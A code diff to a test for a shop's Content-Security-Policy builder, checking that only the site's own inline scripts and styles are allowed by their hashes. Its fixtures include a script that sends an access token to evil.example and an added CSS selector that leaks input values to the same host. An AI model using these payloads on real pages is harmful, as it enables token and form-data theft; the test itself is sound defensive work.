@@ -5,15 +5,17 @@ import { policyFor } from "./page-security.server.ts";
 
 const own = "document.documentElement.dataset.theme = 'dark'";
 const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
+const ownStyle = "body{color:#111}";
+const foreignStyle = "input[value^=a]{background:url(https://evil.example/a)}";
 const origins = { pictures: ["https://pictures.example"], payment: noOrigins, api: [] };
-const page = `<html><script>${own}</script><script>${foreign}</script><script src="/a.js"></script></html>`;
+const page = `<html><style id="theme">${ownStyle}</style><style>${foreignStyle}</style><script>${own}</script><script>${foreign}</script><script src="/a.js"></script></html>`;
 
 function hashOf(script: string): string {
 	return `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
 }
 
 function directive(name: string): string[] {
-	const policy = policyFor(page, new Set([own]), origins).split("; ");
+	const policy = policyFor(page, { scripts: [own], styles: [ownStyle] }, origins).split("; ");
 	return (
 		policy
 			.find((one) => one.startsWith(`${name} `))
@@ -22,9 +24,9 @@ function directive(name: string): string[] {
 	);
 }
 
-test("only the shop's own inline scripts run, by their hashes", () => {
+test("only the shop's own inline scripts and styles count, by their hashes", () => {
 	expect(directive("script-src")).toEqual(["'self'", hashOf(own)]);
-	expect(directive("style-src")).toEqual(["'self'"]);
+	expect(directive("style-src")).toEqual(["'self'", hashOf(ownStyle)]);
 	expect(directive("default-src")).toEqual(["'none'"]);
 });
 
